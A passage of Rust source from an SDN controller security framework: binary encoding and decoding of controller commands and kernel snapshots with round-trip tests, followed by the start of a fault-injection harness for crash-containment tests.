            codec::put_flow_mod(flow_mod, out);
        }
        ApiCallKind::DeleteFlow { dpid, flow_mod } => {
            out.put_u8(2);
            out.put_u64(dpid.0);
            codec::put_flow_mod(flow_mod, out);
        }
        ApiCallKind::ReadTopology => out.put_u8(3),
        ApiCallKind::ModifyTopology { dpid } => {
            out.put_u8(4);
            out.put_u64(dpid.0);
        }
        ApiCallKind::ReadStatistics { dpid, request } => {
            out.put_u8(5);
            out.put_u64(dpid.0);
            codec::put_stats_request(request, out);
        }
        ApiCallKind::ReadPayload { dpid } => {
            out.put_u8(6);
            out.put_u64(dpid.0);
        }
        ApiCallKind::SendPacketOut { dpid, packet_out } => {
            out.put_u8(7);
            out.put_u64(dpid.0);
            codec::put_packet_out(packet_out, out);
        }
        ApiCallKind::Subscribe { kind } => {
            out.put_u8(8);
            put_event_kind(*kind, out);
        }
        ApiCallKind::HostConnect { dst_ip, dst_port } => {
            out.put_u8(9);
            out.put_u32(dst_ip.0);
            out.put_u16(*dst_port);
        }
        ApiCallKind::HostSend { conn, len } => {
            out.put_u8(10);
            out.put_u64(*conn);
            out.put_u64(*len as u64);
        }
        ApiCallKind::FileOpen { path, write } => {
            out.put_u8(11);
            codec::put_string(path, out);
            codec::put_bool(*write, out);
        }
        ApiCallKind::ProcessExec { program } => {
            out.put_u8(12);
            codec::put_string(program, out);
        }
    }
}

fn get_api_call(b: &mut Bytes) -> Result<ApiCall, DecodeError> {
    need(b, 3)?;
    let app = AppId(b.get_u16());
    let kind = match b.get_u8() {
        0 => {
            need(b, 8)?;
            ApiCallKind::ReadFlowTable {
                dpid: DatapathId(b.get_u64()),
                query: codec::get_flow_match(b)?,
            }
        }
        1 => {
            need(b, 8)?;
            ApiCallKind::InsertFlow {
                dpid: DatapathId(b.get_u64()),
                flow_mod: codec::get_flow_mod(b)?,
            }
        }
        2 => {
            need(b, 8)?;
            ApiCallKind::DeleteFlow {
                dpid: DatapathId(b.get_u64()),
                flow_mod: codec::get_flow_mod(b)?,
            }
        }
        3 => ApiCallKind::ReadTopology,
        4 => {
            need(b, 8)?;
            ApiCallKind::ModifyTopology {
                dpid: DatapathId(b.get_u64()),
            }
        }
        5 => {
            need(b, 8)?;
            ApiCallKind::ReadStatistics {
                dpid: DatapathId(b.get_u64()),
                request: codec::get_stats_request(b)?,
            }
        }
        6 => {
            need(b, 8)?;
            ApiCallKind::ReadPayload {
                dpid: DatapathId(b.get_u64()),
            }
        }
        7 => {
            need(b, 8)?;
            ApiCallKind::SendPacketOut {
                dpid: DatapathId(b.get_u64()),
                packet_out: codec::get_packet_out(b)?,
            }
        }
        8 => ApiCallKind::Subscribe {
            kind: get_event_kind(b)?,
        },
        9 => {
            need(b, 6)?;
            ApiCallKind::HostConnect {
                dst_ip: Ipv4(b.get_u32()),
                dst_port: b.get_u16(),
            }
        }
        10 => {
            need(b, 16)?;
            ApiCallKind::HostSend {
                conn: b.get_u64(),
                len: b.get_u64() as usize,
            }
        }
        11 => ApiCallKind::FileOpen {
            path: codec::get_string(b)?,
            write: codec::get_bool(b)?,
        },
        12 => ApiCallKind::ProcessExec {
            program: codec::get_string(b)?,
        },
        _ => return Err(DecodeError::new("bad api-call kind")),
    };
    Ok(ApiCall { app, kind })
}

fn put_flow_ops(ops: &[FlowOp], out: &mut BytesMut) {
    out.put_u32(ops.len() as u32);
    for op in ops {
        out.put_u64(op.dpid.0);
        codec::put_flow_mod(&op.flow_mod, out);
    }
}

fn get_flow_ops(b: &mut Bytes) -> Result<Vec<FlowOp>, DecodeError> {
    need(b, 4)?;
    let n = b.get_u32() as usize;
    let mut ops = Vec::with_capacity(n.min(1024));
    for _ in 0..n {
        need(b, 8)?;
        ops.push(FlowOp {
            dpid: DatapathId(b.get_u64()),
            flow_mod: codec::get_flow_mod(b)?,
        });
    }
    Ok(ops)
}

fn put_frame(frame: &EthernetFrame, out: &mut BytesMut) {
    codec::put_bytes(&frame.to_bytes(), out);
}

fn get_frame(b: &mut Bytes) -> Result<EthernetFrame, DecodeError> {
    let raw = codec::get_bytes(b)?;
    EthernetFrame::from_bytes(raw).map_err(|e| DecodeError::new(e.to_string()))
}

/// Serializes a command into `out` (self-delimiting; commands concatenate).
pub fn encode_command(cmd: &Command, out: &mut BytesMut) {
    match cmd {
        Command::RegisterApp {
            app,
            name,
            manifest,
        } => {
            out.put_u8(0);
            out.put_u16(app.0);
            codec::put_string(name, out);
            codec::put_string(manifest, out);
        }
        Command::DeregisterApp { app } => {
            out.put_u8(1);
            out.put_u16(app.0);
        }
        Command::Call(call) => {
            out.put_u8(2);
            put_api_call(call, out);
        }
        Command::Transaction { app, ops } => {
            out.put_u8(3);
            out.put_u16(app.0);
            put_flow_ops(ops, out);
        }
        Command::Batch { app, ops } => {
            out.put_u8(4);
            out.put_u16(app.0);
            put_flow_ops(ops, out);
        }
        Command::PacketOuts { app, outs } => {
            out.put_u8(5);
            out.put_u16(app.0);
            out.put_u32(outs.len() as u32);
            for (dpid, po) in outs {
                out.put_u64(dpid.0);
                codec::put_packet_out(po, out);
            }
        }
        Command::HostSend { app, conn, data } => {
            out.put_u8(6);
            out.put_u16(app.0);
            out.put_u64(*conn);
            codec::put_bytes(data, out);
        }
        Command::SubscribeTopic { app, topic } => {
            out.put_u8(7);
            out.put_u16(app.0);
            codec::put_string(topic, out);
        }
        Command::AdvanceClock { secs } => {
            out.put_u8(8);
            out.put_u64(*secs);
        }
        Command::FailLink { a, b } => {
            out.put_u8(9);
            out.put_u64(a.0);
            out.put_u64(b.0);
        }
        Command::InjectHostFrame { frame } => {
            out.put_u8(10);
            put_frame(frame, out);
        }
        Command::RecordPktIns { grants } => {
            out.put_u8(11);
            out.put_u32(grants.len() as u32);
            for (app, payload) in grants {
                out.put_u16(app.0);
                codec::put_bytes(payload, out);
            }
        }
    }
}

/// Reads one command from the front of `b`.
///
/// # Errors
///
/// [`DecodeError`] on truncation or unknown tags.
pub fn decode_command(b: &mut Bytes) -> Result<Command, DecodeError> {
    need(b, 1)?;
    Ok(match b.get_u8() {
        0 => {
            need(b, 2)?;
            Command::RegisterApp {
                app: AppId(b.get_u16()),
                name: codec::get_string(b)?,
                manifest: codec::get_string(b)?,
            }
        }
        1 => {
            need(b, 2)?;
            Command::DeregisterApp {
                app: AppId(b.get_u16()),
            }
        }
        2 => Command::Call(get_api_call(b)?),
        3 => {
            need(b, 2)?;
            Command::Transaction {
                app: AppId(b.get_u16()),
                ops: get_flow_ops(b)?,
            }
        }
        4 => {
            need(b, 2)?;
            Command::Batch {
                app: AppId(b.get_u16()),
                ops: get_flow_ops(b)?,
            }
        }
        5 => {
            need(b, 6)?;
            let app = AppId(b.get_u16());
            let n = b.get_u32() as usize;
            let mut outs = Vec::with_capacity(n.min(1024));
            for _ in 0..n {
                need(b, 8)?;
                let dpid = DatapathId(b.get_u64());
                outs.push((dpid, codec::get_packet_out(b)?));
            }
            Command::PacketOuts { app, outs }
        }
        6 => {
            need(b, 10)?;
            Command::HostSend {
                app: AppId(b.get_u16()),
                conn: b.get_u64(),
                data: codec::get_bytes(b)?,
            }
        }
        7 => {
            need(b, 2)?;
            Command::SubscribeTopic {
                app: AppId(b.get_u16()),
                topic: codec::get_string(b)?,
            }
        }
        8 => {
            need(b, 8)?;
            Command::AdvanceClock { secs: b.get_u64() }
        }
        9 => {
            need(b, 16)?;
            Command::FailLink {
                a: DatapathId(b.get_u64()),
                b: DatapathId(b.get_u64()),
            }
        }
        10 => Command::InjectHostFrame {
            frame: get_frame(b)?,
        },
        11 => {
            need(b, 4)?;
            let n = b.get_u32() as usize;
            let mut grants = Vec::with_capacity(n.min(1024));
            for _ in 0..n {
                need(b, 2)?;
                let app = AppId(b.get_u16());
                grants.push((app, codec::get_bytes(b)?));
            }
            Command::RecordPktIns { grants }
        }
        _ => return Err(DecodeError::new("bad command tag")),
    })
}

/// Full mutable state of one switch, restore-exact (entries in table
/// iteration order, counters included).
#[derive(Debug, Clone, PartialEq)]
pub struct SwitchSnapshot {
    /// The switch.
    pub dpid: DatapathId,
    /// Flow entries in the table's iteration order.
    pub entries: Vec<FlowEntry>,
    /// Table lookup counter.
    pub lookup_count: u64,
    /// Table match counter.
    pub matched_count: u64,
    /// Per-port counters.
    pub port_stats: Vec<PortStats>,
}

/// A serializable image of the kernel's entire mutable state — both the
/// restart format ([`crate::kernel::Kernel::recover`] rebuilds a kernel
/// from it) and the equivalence digest the differential recovery tests
/// compare with [`KernelSnapshot::state_eq`].
///
/// Audit *content* is deliberately excluded: audit sequence numbering is
/// preserved across recovery (via [`crate::journal::JournalRecord`]'s
/// `audit_seq_after`), but replayed records are re-derived with a `replay:`
/// tag rather than restored verbatim (DESIGN.md §12).
#[derive(Debug, Clone, PartialEq, Default)]
pub struct KernelSnapshot {
    /// Journal sequence of the last command folded into this snapshot.
    pub last_seq: u64,
    /// Audit sequence watermark at snapshot time.
    pub audit_seq: u64,
    /// Virtual clock position (seconds).
    pub clock: u64,
    /// Whether permission checks run (shielded vs monolithic baseline).
    pub checks_enabled: bool,
    /// CBench mode flag.
    pub absorb_packet_outs: bool,
    /// Registration-time lint flag.
    pub lint_on_register: bool,
    /// The registry epoch counter.
    pub registry_epoch: u64,
    /// Registered apps as `(id, name, canonical manifest text)`, sorted by
    /// id. Engines and virtual topologies recompile from the text.
    pub apps: Vec<(AppId, String, String)>,
    /// Event subscriptions by kind key, delivery order preserved.
    pub subs_by_kind: Vec<(String, Vec<(AppId, bool)>)>,
    /// Custom-topic subscriptions.
    pub subs_custom: Vec<(String, Vec<AppId>)>,
    /// Ownership/quota tracker state (epoch preserved exactly).
    pub tracker: TrackerSnapshot,
    /// Surviving inter-switch links as dpid pairs (recovery prunes the
    /// fresh topology down to these).
    pub links: Vec<(DatapathId, DatapathId)>,
    /// Per-switch tables and counters, ascending dpid.
    pub switches: Vec<SwitchSnapshot>,
    /// The simulated host OS state.
    pub host: HostSnapshot,
    /// Frames delivered to host NICs.
    pub host_inbox: Vec<(EthAddr, Vec<EthernetFrame>)>,
}

impl KernelSnapshot {
    /// Structural state equality, ignoring the positional watermarks
    /// (`last_seq`, `audit_seq`) that legitimately differ between a live
    /// kernel and its recovered twin — recovery replays commands (advancing
    /// `last_seq` identically) but re-derives audit records under `replay:`
    /// tags at fresh sequence numbers.
    pub fn state_eq(&self, other: &KernelSnapshot) -> bool {
        let mut a = self.clone();
        let mut b = other.clone();
        a.last_seq = 0;
        a.audit_seq = 0;
        b.last_seq = 0;
        b.audit_seq = 0;
        a == b
    }

    /// Serializes the snapshot.
    pub fn encode(&self) -> Bytes {
        let mut out = BytesMut::new();
        out.put_u8(SNAPSHOT_VERSION);
        out.put_u64(self.last_seq);
        out.put_u64(self.audit_seq);
        out.put_u64(self.clock);
        codec::put_bool(self.checks_enabled, &mut out);
        codec::put_bool(self.absorb_packet_outs, &mut out);
        codec::put_bool(self.lint_on_register, &mut out);
        out.put_u64(self.registry_epoch);
        out.put_u32(self.apps.len() as u32);
        for (app, name, manifest) in &self.apps {
            out.put_u16(app.0);
            codec::put_string(name, &mut out);
            codec::put_string(manifest, &mut out);
        }
        out.put_u32(self.subs_by_kind.len() as u32);
        for (kind, subs) in &self.subs_by_kind {
            codec::put_string(kind, &mut out);
            out.put_u32(subs.len() as u32);
            for (app, intercepts) in subs {
                out.put_u16(app.0);
                codec::put_bool(*intercepts, &mut out);
            }
        }
        out.put_u32(self.subs_custom.len() as u32);
        for (topic, subs) in &self.subs_custom {
            codec::put_string(topic, &mut out);
            out.put_u32(subs.len() as u32);
            for app in subs {
                out.put_u16(app.0);
            }
        }
        put_tracker(&self.tracker, &mut out);
        out.put_u32(self.links.len() as u32);
        for (a, b) in &self.links {
            out.put_u64(a.0);
            out.put_u64(b.0);
        }
        out.put_u32(self.switches.len() as u32);
        for sw in &self.switches {
            out.put_u64(sw.dpid.0);
            out.put_u32(sw.entries.len() as u32);
            for e in &sw.entries {
                codec::put_flow_entry(e, &mut out);
            }
            out.put_u64(sw.lookup_count);
            out.put_u64(sw.matched_count);
            out.put_u32(sw.port_stats.len() as u32);
            for p in &sw.port_stats {
                codec::put_port_stats(p, &mut out);
            }
        }
        put_host(&self.host, &mut out);
        out.put_u32(self.host_inbox.len() as u32);
        for (mac, frames) in &self.host_inbox {
            out.put_slice(&mac.0);
            out.put_u32(frames.len() as u32);
            for f in frames {
                put_frame(f, &mut out);
            }
        }
        out.freeze()
    }

    /// Deserializes a snapshot produced by [`KernelSnapshot::encode`].
    ///
    /// # Errors
    ///
    /// [`DecodeError`] on truncation, bad tags, or a version mismatch.
    pub fn decode(mut b: Bytes) -> Result<KernelSnapshot, DecodeError> {
        need(&b, 1)?;
        if b.get_u8() != SNAPSHOT_VERSION {
            return Err(DecodeError::new("unsupported snapshot version"));
        }
        need(&b, 24)?;
        let last_seq = b.get_u64();
        let audit_seq = b.get_u64();
        let clock = b.get_u64();
        let checks_enabled = codec::get_bool(&mut b)?;
        let absorb_packet_outs = codec::get_bool(&mut b)?;
        let lint_on_register = codec::get_bool(&mut b)?;
        need(&b, 12)?;
        let registry_epoch = b.get_u64();
        let napps = b.get_u32() as usize;
        let mut apps = Vec::with_capacity(napps.min(1024));
        for _ in 0..napps {
            need(&b, 2)?;
            let app = AppId(b.get_u16());
            let name = codec::get_string(&mut b)?;
            let manifest = codec::get_string(&mut b)?;
            apps.push((app, name, manifest));
        }
        need(&b, 4)?;
        let nkinds = b.get_u32() as usize;
        let mut subs_by_kind = Vec::with_capacity(nkinds.min(1024));
        for _ in 0..nkinds {
            let kind = codec::get_string(&mut b)?;
            need(&b, 4)?;
            let n = b.get_u32() as usize;
            let mut subs = Vec::with_capacity(n.min(1024));
            for _ in 0..n {
                need(&b, 2)?;
                let app = AppId(b.get_u16());
                subs.push((app, codec::get_bool(&mut b)?));
            }
            subs_by_kind.push((kind, subs));
        }
        need(&b, 4)?;
        let ntopics = b.get_u32() as usize;
        let mut subs_custom = Vec::with_capacity(ntopics.min(1024));
        for _ in 0..ntopics {
            let topic = codec::get_string(&mut b)?;
            need(&b, 4)?;
            let n = b.get_u32() as usize;
            let mut subs = Vec::with_capacity(n.min(1024));
            for _ in 0..n {
                need(&b, 2)?;
                subs.push(AppId(b.get_u16()));
            }
            subs_custom.push((topic, subs));
        }
        let tracker = get_tracker(&mut b)?;
        need(&b, 4)?;
        let nlinks = b.get_u32() as usize;
        let mut links = Vec::with_capacity(nlinks.min(1024));
        for _ in 0..nlinks {
            need(&b, 16)?;
            links.push((DatapathId(b.get_u64()), DatapathId(b.get_u64())));
        }
        need(&b, 4)?;
        let nswitches = b.get_u32() as usize;
        let mut switches = Vec::with_capacity(nswitches.min(1024));
        for _ in 0..nswitches {
            need(&b, 12)?;
            let dpid = DatapathId(b.get_u64());
            let nentries = b.get_u32() as usize;
            let mut entries = Vec::with_capacity(nentries.min(4096));
            for _ in 0..nentries {
                entries.push(codec::get_flow_entry(&mut b)?);
            }
            need(&b, 20)?;
            let lookup_count = b.get_u64();
            let matched_count = b.get_u64();
            let nports = b.get_u32() as usize;
            let mut port_stats = Vec::with_capacity(nports.min(1024));
            for _ in 0..nports {
                port_stats.push(codec::get_port_stats(&mut b)?);
            }
            switches.push(SwitchSnapshot {
                dpid,
                entries,
                lookup_count,
                matched_count,
                port_stats,
            });
        }
        let host = get_host(&mut b)?;
        need(&b, 4)?;
        let ninbox = b.get_u32() as usize;
        let mut host_inbox = Vec::with_capacity(ninbox.min(1024));
        for _ in 0..ninbox {
            need(&b, 10)?;
            let mut mac = [0u8; 6];
            b.copy_to_slice(&mut mac);
            let n = b.get_u32() as usize;
            let mut frames = Vec::with_capacity(n.min(1024));
            for _ in 0..n {
                frames.push(get_frame(&mut b)?);
            }
            host_inbox.push((EthAddr(mac), frames));
        }
        Ok(KernelSnapshot {
            last_seq,
            audit_seq,
            clock,
            checks_enabled,
            absorb_packet_outs,
            lint_on_register,
            registry_epoch,
            apps,
            subs_by_kind,
            subs_custom,
            tracker,
            links,
            switches,
            host,
            host_inbox,
        })
    }
}

const SNAPSHOT_VERSION: u8 = 1;

fn put_tracker(t: &TrackerSnapshot, out: &mut BytesMut) {
    out.put_u64(t.epoch);
    out.put_u64(t.pkt_in_window as u64);
    out.put_u32(t.rules.len() as u32);
    for (dpid, rules) in &t.rules {
        out.put_u64(dpid.0);
        out.put_u32(rules.len() as u32);
        for (app, m, prio) in rules {
            out.put_u16(app.0);
            codec::put_flow_match(m, out);
            out.put_u16(prio.0);
        }
    }
    out.put_u32(t.pkt_in_seen.len() as u32);
    for (app, hashes) in &t.pkt_in_seen {
        out.put_u16(app.0);
        out.put_u32(hashes.len() as u32);
        for h in hashes {
            out.put_u64(*h);
        }
    }
}

fn get_tracker(b: &mut Bytes) -> Result<TrackerSnapshot, DecodeError> {
    need(b, 20)?;
    let epoch = b.get_u64();
    let pkt_in_window = b.get_u64() as usize;
    let ndpids = b.get_u32() as usize;
    let mut rules = Vec::with_capacity(ndpids.min(1024));
    for _ in 0..ndpids {
        need(b, 12)?;
        let dpid = DatapathId(b.get_u64());
        let n = b.get_u32() as usize;
        let mut per = Vec::with_capacity(n.min(4096));
        for _ in 0..n {
            need(b, 2)?;
            let app = AppId(b.get_u16());
            let m = codec::get_flow_match(b)?;
            need(b, 2)?;
            per.push((app, m, Priority(b.get_u16())));
        }
        rules.push((dpid, per));
    }
    need(b, 4)?;
    let napps = b.get_u32() as usize;
    let mut pkt_in_seen = Vec::with_capacity(napps.min(1024));
    for _ in 0..napps {
        need(b, 6)?;
        let app = AppId(b.get_u16());
        let n = b.get_u32() as usize;
        need(b, n * 8)?;
        let mut hashes = Vec::with_capacity(n.min(4096));
        for _ in 0..n {
            hashes.push(b.get_u64());
        }
        pkt_in_seen.push((app, hashes));
    }
    Ok(TrackerSnapshot {
        epoch,
        pkt_in_window,
        rules,
        pkt_in_seen,
    })
}

fn put_host(h: &HostSnapshot, out: &mut BytesMut) {
    out.put_u32(h.connections.len() as u32);
    for c in &h.connections {
        out.put_u64(c.id.0);
        out.put_u16(c.app.0);
        out.put_u32(c.dst_ip.0);
        out.put_u16(c.dst_port);
        out.put_u32(c.sent.len() as u32);
        for data in &c.sent {
            codec::put_bytes(data, out);
        }
        codec::put_bool(c.closed, out);
    }
    out.put_u32(h.files.len() as u32);
    for f in &h.files {
        out.put_u16(f.app.0);
        codec::put_string(&f.path, out);
        codec::put_bool(f.write, out);
    }
    out.put_u32(h.processes.len() as u32);
    for p in &h.processes {
        out.put_u16(p.app.0);
        codec::put_string(&p.program, out);
    }
    out.put_u64(h.next_conn);
}

fn get_host(b: &mut Bytes) -> Result<HostSnapshot, DecodeError> {
    use crate::hostsys::{ConnId, Connection, FileAccess, SpawnedProcess};
    need(b, 4)?;
    let nconns = b.get_u32() as usize;
    let mut connections = Vec::with_capacity(nconns.min(1024));
    for _ in 0..nconns {
        need(b, 20)?;
        let id = ConnId(b.get_u64());
        let app = AppId(b.get_u16());
        let dst_ip = Ipv4(b.get_u32());
        let dst_port = b.get_u16();
        let nsent = b.get_u32() as usize;
        let mut sent = Vec::with_capacity(nsent.min(4096));
        for _ in 0..nsent {
            sent.push(codec::get_bytes(b)?);
        }
        let closed = codec::get_bool(b)?;
        connections.push(Connection {
            id,
            app,
            dst_ip,
            dst_port,
            sent,
            closed,
        });
    }
    need(b, 4)?;
    let nfiles = b.get_u32() as usize;
    let mut files = Vec::with_capacity(nfiles.min(1024));
    for _ in 0..nfiles {
        need(b, 2)?;
        let app = AppId(b.get_u16());
        let path = codec::get_string(b)?;
        files.push(FileAccess {
            app,
            path,
            write: codec::get_bool(b)?,
        });
    }
    need(b, 4)?;
    let nprocs = b.get_u32() as usize;
    let mut processes = Vec::with_capacity(nprocs.min(1024));
    for _ in 0..nprocs {
        need(b, 2)?;
        let app = AppId(b.get_u16());
        processes.push(SpawnedProcess {
            app,
            program: codec::get_string(b)?,
        });
    }
    need(b, 8)?;
    let next_conn = b.get_u64();
    Ok(HostSnapshot {
        connections,
        files,
        processes,
        next_conn,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hostsys::{ConnId, Connection};
    use sdnshield_openflow::actions::ActionList;
    use sdnshield_openflow::flow_match::FlowMatch;
    use sdnshield_openflow::messages::{FlowMod, StatsRequest};
    use sdnshield_openflow::types::{BufferId, Cookie, PortNo};

    fn sample_commands() -> Vec<Command> {
        vec![
            Command::RegisterApp {
                app: AppId(1),
                name: "fw".into(),
                manifest: "grant insert_flow;".into(),
            },
            Command::DeregisterApp { app: AppId(2) },
            Command::Call(ApiCall::new(
                AppId(1),
                ApiCallKind::InsertFlow {
                    dpid: DatapathId(3),
                    flow_mod: FlowMod::add(
                        FlowMatch::default().with_tp_dst(80),
                        Priority(7),
                        ActionList::output(PortNo(2)),
                    ),
                },
            )),
            Command::Call(ApiCall::new(AppId(4), ApiCallKind::ReadTopology)),
            Command::Call(ApiCall::new(
                AppId(4),
                ApiCallKind::ReadStatistics {
                    dpid: DatapathId(1),
                    request: StatsRequest::Table,
                },
            )),
            Command::Call(ApiCall::new(
                AppId(4),
                ApiCallKind::Subscribe {
                    kind: EventKind::PacketIn,
                },
            )),
            Command::Call(ApiCall::new(
                AppId(4),
                ApiCallKind::HostConnect {
                    dst_ip: Ipv4::new(10, 0, 0, 1),
                    dst_port: 443,
                },
            )),
            Command::Call(ApiCall::new(
                AppId(4),
                ApiCallKind::FileOpen {
                    path: "/etc/hosts".into(),
                    write: false,
                },
            )),
            Command::Transaction {
                app: AppId(1),
                ops: vec![FlowOp {
                    dpid: DatapathId(2),
                    flow_mod: FlowMod::add(
                        FlowMatch::any(),
                        Priority(1),
                        ActionList::output(PortNo(1)),
                    ),
                }],
            },
            Command::Batch {
                app: AppId(1),
                ops: Vec::new(),
            },
            Command::PacketOuts {
                app: AppId(1),
                outs: vec![(
                    DatapathId(1),
                    PacketOut {
                        buffer_id: BufferId::NO_BUFFER,
                        in_port: PortNo::NONE,
                        actions: ActionList::output(PortNo(1)),
                        payload: Bytes::from_static(b"frame"),
                    },
                )],
            },
            Command::HostSend {
                app: AppId(1),
                conn: 9,
                data: Bytes::from_static(b"exfil"),
            },
            Command::SubscribeTopic {
                app: AppId(5),
                topic: "alto".into(),
            },
            Command::AdvanceClock { secs: 30 },
            Command::FailLink {
                a: DatapathId(1),
                b: DatapathId(2),
            },
            Command::RecordPktIns {
                grants: vec![(AppId(1), Bytes::from_static(b"payload"))],
            },
        ]
    }

    #[test]
    fn commands_roundtrip() {
        for cmd in sample_commands() {
            let mut out = BytesMut::new();
            encode_command(&cmd, &mut out);
            let mut b = out.freeze();
            assert_eq!(decode_command(&mut b).unwrap(), cmd);
            assert!(b.is_empty(), "self-delimiting: {}", cmd.name());
        }
    }

    #[test]
    fn command_stream_concatenates() {
        let cmds = sample_commands();
        let mut out = BytesMut::new();
        for cmd in &cmds {
            encode_command(cmd, &mut out);
        }
        let mut b = out.freeze();
        for cmd in &cmds {
            assert_eq!(&decode_command(&mut b).unwrap(), cmd);
        }
        assert!(b.is_empty());
    }

    #[test]
    fn truncated_command_is_an_error() {
        let mut out = BytesMut::new();
        encode_command(
            &Command::SubscribeTopic {
                app: AppId(1),
                topic: "topic".into(),
            },
            &mut out,
        );
        let full = out.freeze();
        for cut in 0..full.len() {
            let mut b = full.slice(0..cut);
            assert!(decode_command(&mut b).is_err(), "cut at {cut}");
        }
    }

    fn sample_snapshot() -> KernelSnapshot {
        KernelSnapshot {
            last_seq: 42,
            audit_seq: 99,
            clock: 17,
            checks_enabled: true,
            absorb_packet_outs: false,
            lint_on_register: true,
            registry_epoch: 5,
            apps: vec![(AppId(1), "fw".into(), "grant insert_flow;".into())],
            subs_by_kind: vec![("packet_in".into(), vec![(AppId(1), false)])],
            subs_custom: vec![("alto".into(), vec![AppId(1)])],
            tracker: TrackerSnapshot {
                epoch: 12,
                pkt_in_window: 1024,
                rules: vec![(
                    DatapathId(1),
                    vec![(AppId(1), FlowMatch::default().with_tp_dst(80), Priority(7))],
                )],
                pkt_in_seen: vec![(AppId(1), vec![0xdead, 0xbeef])],
            },
            links: vec![(DatapathId(1), DatapathId(2))],
            switches: vec![SwitchSnapshot {
                dpid: DatapathId(1),
                entries: vec![FlowEntry {
                    flow_match: FlowMatch::default().with_tp_dst(80),
                    priority: Priority(7),
                    actions: ActionList::output(PortNo(2)),
                    cookie: Cookie::with_owner(1, 0),
                    idle_timeout: 0,
                    hard_timeout: 0,
                    notify_when_removed: false,
                    installed_at: 3,
                    last_hit_at: 9,
                    packet_count: 4,
                    byte_count: 256,
                }],
                lookup_count: 11,
                matched_count: 7,
                port_stats: Vec::new(),
            }],
            host: HostSnapshot {
                connections: vec![Connection {
                    id: ConnId(1),
                    app: AppId(1),
                    dst_ip: Ipv4::new(8, 8, 8, 8),
                    dst_port: 53,
                    sent: vec![Bytes::from_static(b"q")],
                    closed: false,
                }],
                files: Vec::new(),
                processes: Vec::new(),
                next_conn: 1,
            },
            host_inbox: Vec::new(),
        }
    }

    #[test]
    fn snapshot_roundtrips() {
        let snap = sample_snapshot();
        let decoded = KernelSnapshot::decode(snap.encode()).unwrap();
        assert_eq!(decoded, snap);
    }

    #[test]
    fn state_eq_ignores_watermarks_only() {
        let snap = sample_snapshot();
        let mut other = snap.clone();
        other.last_seq += 10;
        other.audit_seq += 10;
        assert!(snap.state_eq(&other), "watermarks are positional");
        let mut diverged = snap.clone();
        diverged.tracker.epoch += 1;
        assert!(!snap.state_eq(&diverged), "tracker epochs are state");
    }

    #[test]
    fn truncated_snapshot_is_an_error() {
        let full = sample_snapshot().encode();
        assert!(KernelSnapshot::decode(full.slice(0..full.len() / 2)).is_err());
        assert!(KernelSnapshot::decode(Bytes::from_static(b"\xff")).is_err());
    }
}
