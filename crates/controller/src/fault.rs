//! Fault-injection harness for the crash-containment tests.
//!
//! The supervision subsystem (app reaping, deputy watchdog, overload
//! shedding) is only trustworthy if it can be exercised deterministically.
//! A [`FaultPlan`] describes *where* and *when* a component should
//! misbehave:
//!
//! * app-side faults (`panic_on_start`, `panic_on_nth_event`,
//!   `stall_on_nth_event`) are interpreted by the app under test itself —
//!   see `CrasherApp` in `sdnshield-apps` — because only the app thread can
//!   panic "inside `on_event`";
//! * deputy-side faults (`panic_in_deputy_on_nth_call`,
//!   `drop_reply_on_nth_call`, `kill_deputy_on_nth_call`) are armed on the
//!   controller with `ShieldedController::arm_faults` and consulted by the
//!   deputy loop per mediated call, keyed by the calling app.
//!
//! Counters are 1-based: `panic_on_nth_event = Some(2)` crashes while
//! handling the second delivered event. Each deputy fault fires exactly
//! once, then disarms, so a respawned deputy (or retried call) proceeds
//! normally.

use std::collections::HashMap;
use std::sync::Mutex;
use std::time::Duration;

use sdnshield_core::api::AppId;

/// A declarative fault schedule for one app.
#[derive(Debug, Clone, Default)]
pub struct FaultPlan {
    /// Panic inside `on_start` (registration-time crash).
    pub panic_on_start: bool,
    /// Panic while handling the Nth delivered event (1-based).
    pub panic_on_nth_event: Option<u32>,
    /// Sleep for the given duration while handling the Nth event (1-based).
    pub stall_on_nth_event: Option<(u32, Duration)>,
    /// Panic inside the deputy executing the app's Nth mediated call.
    pub panic_in_deputy_on_nth_call: Option<u32>,
    /// Execute the app's Nth call but never send the reply (the sender is
    /// parked alive, so the app's per-call timeout — not channel disconnect
    /// — is what unblocks it).
    pub drop_reply_on_nth_call: Option<u32>,
    /// Kill the whole deputy thread on the app's Nth call (exercises the
    /// watchdog respawn path).
    pub kill_deputy_on_nth_call: Option<u32>,
    /// Journal fault: tear the command-journal write that crosses this file
    /// byte offset, then die (see [`crate::journal::JournalFaults`]).
    pub torn_journal_write_at_byte: Option<u64>,
    /// Journal fault: corrupt the stored CRC of the journal record with
    /// this commit sequence.
    pub corrupt_journal_crc_on_record: Option<u64>,
    /// Journal fault: die between applying and appending the record with
    /// this commit sequence.
    pub crash_before_journal_append_on_record: Option<u64>,
}

impl FaultPlan {
    /// A plan that injects nothing.
    pub fn none() -> Self {
        Self::default()
    }

    /// Panic inside `on_start`.
    pub fn panic_on_start(mut self) -> Self {
        self.panic_on_start = true;
        self
    }

    /// Panic while handling the `n`th event (1-based).
    pub fn panic_on_event(mut self, n: u32) -> Self {
        self.panic_on_nth_event = Some(n);
        self
    }

    /// Stall for `d` while handling the `n`th event (1-based).
    pub fn stall_on_event(mut self, n: u32, d: Duration) -> Self {
        self.stall_on_nth_event = Some((n, d));
        self
    }

    /// Panic inside the deputy on the `n`th mediated call (1-based).
    pub fn panic_in_deputy(mut self, n: u32) -> Self {
        self.panic_in_deputy_on_nth_call = Some(n);
        self
    }

    /// Swallow the reply to the `n`th mediated call (1-based).
    pub fn drop_reply(mut self, n: u32) -> Self {
        self.drop_reply_on_nth_call = Some(n);
        self
    }

    /// Kill the deputy thread serving the `n`th mediated call (1-based).
    pub fn kill_deputy(mut self, n: u32) -> Self {
        self.kill_deputy_on_nth_call = Some(n);
        self
    }

    /// Tear the journal write that crosses file byte offset `at`.
    pub fn torn_journal_write_at_byte(mut self, at: u64) -> Self {
        self.torn_journal_write_at_byte = Some(at);
        self
    }

    /// Corrupt the stored CRC of journal record `seq`.
    pub fn corrupt_journal_crc_on_record(mut self, seq: u64) -> Self {
        self.corrupt_journal_crc_on_record = Some(seq);
        self
    }

    /// Die between applying and appending journal record `seq`.
    pub fn crash_before_journal_append(mut self, seq: u64) -> Self {
        self.crash_before_journal_append_on_record = Some(seq);
        self
    }

    /// The journal-level faults in this plan, ready to arm on a
    /// [`crate::journal::Journal`].
    pub fn journal_faults(&self) -> crate::journal::JournalFaults {
        crate::journal::JournalFaults {
            torn_write_at_byte: self.torn_journal_write_at_byte,
            corrupt_crc_on_record: self.corrupt_journal_crc_on_record,
